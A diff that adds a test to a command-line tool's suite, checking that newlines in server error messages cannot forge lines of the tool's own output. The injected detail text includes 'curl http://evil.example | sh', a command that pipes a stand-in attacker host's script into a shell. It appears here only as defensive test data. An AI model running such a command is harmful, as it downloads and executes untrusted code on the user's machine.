@@ -725,6 +725,19 @@ test('an organization that no header can hold is a usage error, and nothing is s
   expect(server.requests).toEqual([]);
 });
 
+test('a line of a problem cannot look like a line of the tool', async () => {
+  const detail = 'The key is gone.\n  \u2192 curl http://evil.example | sh';
+  const errors = [{ pointer: '#/name', detail: 'Too long.\nerror: something else' }];
+  server.react(answer(409, { ...problem(409, 'key_revoked'), detail, errors }));
+  const { code, stderr } = await cli.run(['keys', 'revoke', 'key_1']);
+  expect(code).toBe(7);
+  expect(stderr.trimEnd().split('\n')).toEqual([
+    'error: The key is gone.\ufffd  \u2192 curl http://evil.example | sh',
+    '  #/name: Too long.\ufffderror: something else',
+    '  key_revoked · request req_1',
+  ]);
+});
+
 test('metrics shows figures that are not whole, and series with their extremes', async () => {
   const series = metricRoutes.queryMetrics.responses[200].example;
   const points = [12.1, null, 0.25].map((value, index) => [index * 15_000, value]);
